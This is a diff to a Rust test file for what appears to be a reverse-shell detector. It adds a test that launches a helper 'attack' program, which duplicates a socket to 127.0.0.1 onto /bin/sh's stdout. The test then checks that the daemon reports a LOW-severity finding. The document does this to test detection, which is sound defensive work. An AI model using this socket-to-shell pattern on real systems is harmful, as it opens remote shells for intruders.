@@ -6,6 +6,7 @@ use crate::common::attacker::Listener;
 use crate::common::daemon::Daemon;
 use crate::common::expected::Expected;
 use crate::common::finding::{CATEGORY, Finding};
+use crate::common::notes::note;
 use crate::common::programs::program;
 use crate::common::token;
 use crate::common::victim::Victim;
@@ -167,6 +168,27 @@ fn stdout_only_of_two_commands_is_row_8() {
     assert_eq!(session.rest(), format!("0\n{token}"));
     let found = finding(&attacker, 8);
     assert_eq!(found.category(), CATEGORY);
+    assert_eq!(found.severity(), "LOW", "{}", found.brief());
+    assert_eq!(found.numbers("Socket_Fds"), [1], "{}", found.brief());
+}
+
+/// A shell with its commands in a file, and the socket as its stdout alone.
+#[test]
+fn stdout_only_with_commands_from_a_file() {
+    require!("gcc");
+    Daemon::shared();
+    let (attacker, directory, token) = (Listener::tcp(), tempfile::tempdir().unwrap(), token());
+    let file = directory.path().join("commands");
+    std::fs::write(&file, format!("/usr/bin/id -u\n/usr/bin/printf {token}\n")).unwrap();
+    let mut start = Command::new(program("attack"));
+    start.args(["dup", "127.0.0.1", &attacker.port().to_string(), "1", "/bin/sh"]);
+    start.stdin(std::fs::File::open(&file).unwrap()).stdout(Stdio::null()).stderr(Stdio::null());
+    let mut victim = Victim::spawn(start);
+    let mut session = attacker.accept();
+    victim.wait();
+    assert_eq!(session.rest(), format!("0\n{token}"));
+    let found = finding(&attacker, 8);
+    note(Daemon::shared(), &found);
     assert_eq!(found.severity(), "LOW", "{}", found.brief());
     assert_eq!(found.numbers("Socket_Fds"), [1], "{}", found.brief());
 }
